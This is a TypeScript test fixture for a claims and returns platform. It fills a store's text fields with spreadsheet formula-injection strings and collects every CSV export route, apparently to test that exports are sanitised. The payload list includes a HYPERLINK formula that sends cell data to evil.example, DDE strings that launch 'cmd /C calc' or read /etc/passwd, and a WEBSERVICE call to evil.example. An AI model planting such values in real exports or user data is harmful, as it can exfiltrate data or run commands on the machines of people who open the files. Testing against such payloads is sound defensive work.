/** A store in which people wrote formulas wherever they can, and every CSV of it. */
import { buildItem } from '../src/demo/build.ts';
import { countFigures } from '../src/server/analytics/jobs.ts';
import type { StoreId } from '../src/server/auth/caller.ts';
import { runExport } from '../src/server/claims/export/jobs.ts';
import type { TestApp } from './app.ts';
import { addPerson, asPerson } from './people.ts';
import { bearer, file, fileableOrder, filingOf, orderIdOf, shopperToken } from './world.ts';

/** What spreadsheets run: formulas, links and DDE, begun in each way that one of them knows. */
export const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Refund")',
  "=cmd|' /C calc'!A0",
  '=DDE("soffice";"/etc/passwd";"A1")',
  '=WEBSERVICE("https://evil.example/")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  'Ada;=1+1',
  'Ada",=1+1,"',
  'Ada\t=1+1',
  'Ada\r\n=1+1',
  "'=1+1",
  '"=1+1"',
  '{=1+1}',
] as const;

/** One of each thing for each text, which is in every field of it that takes any text. */
export async function openHostileStore(test: TestApp): Promise<StoreId> {
  const store = await test.addStore({ name: FORMULAS[0] });
  await test.database.admin.query(
    `with field as (
       insert into metadata_fields (store_id, id, name, kind, choices, position, created_at)
       values ($1, 'hostile', $2, 'text', '{}', 1, now())),
     run as (
       insert into import_runs (store_id, id, maker, kind, phase, state, file_name, file_key, file_size, ignores_columns, takes_tests,
         counts, created_at, updated_at, expires_at)
       select $1, 'hostile-' || kind, 'x', kind, 'import', 'done', $2, 'x' || kind, 10, false, false,
         '{"read":1,"created":0,"updated":0,"unchanged":0,"refused":1}', now(), now(), now() + interval '9 years'
       from unnest('{orders,products}'::text[]) kind)
     insert into reconciliations (store_id, id, provider, from_day, to_day, state, started_at, updated_at)
     values ($1, 'hostile', 'stripe', '2026-11-01', '2026-11-07', 'done', now(), now())`,
    [store, FORMULAS[0]],
  );
  for (const [at, text] of FORMULAS.entries()) await addOne(test, store, text, at + 1);
  await countFigures(test.context);
  return store;
}

async function addOne(test: TestApp, store: StoreId, text: string, at: number): Promise<void> {
  const source = `hostile-${at}`;
  const email = `ada${at}@example.com`;
  const item = buildItem({
    sourceItemId: 'i1',
    sourceProductId: source,
    name: text,
    sku: text,
    warrantyPeriod: 'P1Y',
  });
  const order = fileableOrder(test.clock.now, {
    sourceOrderNumber: text,
    customer: { email, name: text, phone: text },
    items: [item],
    returns: [
      {
        ...{ id: text, status: 'RECEIVED', createdAt: new Date(test.clock.now).toISOString() },
        ...{ trackingNumber: text, trackingUrl: null, items: [{ sourceItemId: 'i1', quantity: 1 }] },
      },
    ],
  });
  const fulfillments = order.fulfillments.map((one) => ({ ...one, trackingCompany: text }));
  await test.addOrder(store, source, { ...order, fulfillments });
  const token = shopperToken(test, store, await orderIdOf(test, store, source));
  const claim = await file(test, token, source, filingOf({}, { email }));
  const theirs = { reference: text, currency: 'USD', state: text, amount: text, at: null };
  await test.database.admin.query(
    `with claim as (
       update claims set author_name = $3::text, assignee = $3::text, labels = array[$3::text], metadata = jsonb_build_object('hostile', $3::text)
       where store_id = $1 and id = $2),
     review as (
       insert into claim_reviews (store_id, id, claim_id, rating, content, author_name, reply, replied_at, created_at)
       values ($1, 'review-' || $4::int, $2, 3, $3::text, $3::text, $3::text, now(), now())),
     product as (
       insert into products (store_id, source_product_id, name, sku, status, content_hash) values ($1, $5, $3::text, $3::text, 'active', '')),
     refused as (
       insert into import_refusals (store_id, run_id, ordinal, reference, code, reason, fields)
       select $1, 'hostile-' || kind, $4::int, $3::text, 'invalid_line', $3::text, array[$3::text] from unnest('{orders,products}'::text[]) kind),
     journal as (
       insert into ledger_journals (store_id, id, source, reference, kind, state, effective_on, claim_id, created_at)
       values ($1, 'journal-' || $4::int, 'claim', $3::text, 'decided', 'posted', current_date, $2, now())),
     entries as (
       insert into ledger_entries (store_id, journal_id, position, account, currency, amount)
       values ($1, 'journal-' || $4::int, 1, 'claims_payable', 'USD', 100), ($1, 'journal-' || $4::int, 2, 'clearing:by_hand', 'USD', -100)),
     difference as (
       insert into reconciliation_differences
         (store_id, id, reconciliation_id, position, fingerprint, result, reason, theirs, seen_at, seen_by, note)
       values ($1, 'difference-' || $4::int, 'hostile', $4::int, 'k' || $4::int, 'missing_here', 'by_person', $6, now(), $3::text, $3::text)),
     line as (
       insert into audit_log (store_id, at, id, actor_kind, actor_id, by_name, operation, subject_kind, subject_id, subject_name, before, after)
       values ($1, now(), 'line-' || $4::int, 'token', 'x', $3::text, 'createLabel', 'label', $3::text, $3::text, to_jsonb($3::text), jsonb_build_object($3::text, $3::text)))
     insert into platform_audit_log
       (place, at, id, actor_kind, actor_id, by_name, operation, subject_kind, subject_id, subject_name, before, after)
     values ('staff', now(), 'line-' || $4::int, 'person', 'x', $3::text, 'createAccount', 'account', $3::text, $3::text, to_jsonb($3::text), jsonb_build_object($3::text, $3::text))`,
    [store, claim, text, at, source, JSON.stringify(theirs)],
  );
}

/** A file that a job writes first. */
const EXPORTED = 'exported';

export type CsvFile = { route: string; body: string };

/** Every route that answers CSV, by what it is called with. */
const CALLS: Record<string, string> = {
  'GET /v1/analytics/reports/:report/csv': '/v1/analytics/reports/claims/csv?by=product',
  'GET /v1/audit-log.csv': '/v1/audit-log.csv',
  'GET /v1/claim-exports/:id/file': EXPORTED,
  'GET /v1/claims.csv': '/v1/claims.csv',
  'GET /v1/customers.csv': '/v1/customers.csv',
  'GET /v1/import-runs/orders/:id/refusals.csv': '/v1/import-runs/orders/hostile-orders/refusals.csv',
  'GET /v1/import-runs/products/:id/refusals.csv': '/v1/import-runs/products/hostile-products/refusals.csv',
  'GET /v1/ledger/differences.csv': '/v1/ledger/differences.csv?reconciliationId=hostile',
  'GET /v1/ledger/journals.csv': '/v1/ledger/journals.csv',
  'GET /v1/ledger/statement.csv': '/v1/ledger/statement.csv?month=2026-11',
  'GET /v1/me/analytics/reports/:report/csv': '/v1/me/analytics/reports/claims/csv?by=carrier',
  'GET /v1/me/claims.csv': '/v1/me/claims.csv',
  'GET /v1/orders.csv': '/v1/orders.csv',
  'GET /v1/platform/audit-log.csv': '/v1/platform/audit-log.csv',
  'GET /v1/policies.csv': '/v1/policies.csv',
  'GET /v1/products.csv': '/v1/products.csv',
  'GET /v1/returns.csv': '/v1/returns.csv',
  'GET /v1/reviews.csv': '/v1/reviews.csv',
  'GET /v1/warranties.csv': '/v1/warranties.csv',
};

export const CSV_ROUTES = Object.keys(CALLS);

/** Every CSV of the store, as an owner and one of the staff get it. */
export async function csvFiles(test: TestApp, store: StoreId): Promise<CsvFile[]> {
  const owner = bearer(await test.token(store, 'store_owner'));
  const staff = await asPerson(test, (await addPerson(test, { role: 'orderprotection_admin' })).id);
  const day = (at: number) => new Date(at).toISOString().slice(0, 10);
  const range = `&from=${day(test.clock.now - 7 * 86_400_000)}&to=${day(test.clock.now + 86_400_000)}`;
  const member = await asPerson(test, (await addPerson(test, { store })).id);
  return Promise.all(
    Object.entries(CALLS).map(async ([route, call]) => {
      const url =
        call === EXPORTED ? await exported(test, store, owner) : call + (call.includes('?by=') ? range : '');
      const headers = route.includes('/platform/') ? staff : route.includes('/me/') ? member : owner;
      const answer = await test.app.inject({ url, headers });
      if (answer.statusCode !== 200) throw new Error(`${route}: ${answer.body}`);
      return { route, body: answer.body };
    }),
  );
}

async function exported(test: TestApp, store: StoreId, owner: Record<string, string>): Promise<string> {
  const headers = { ...owner, 'idempotency-key': crypto.randomUUID() };
  const asked = await test.app.inject({ method: 'POST', url: '/v1/claim-exports', payload: {}, headers });
  const { id } = asked.json().export;
  await runExport(test.context, store, id);
  const ready = await test.app.inject({ url: `/v1/claim-exports/${id}`, headers: owner });
  const { pathname, search } = new URL(ready.json().export.url);
  return pathname + search;
}
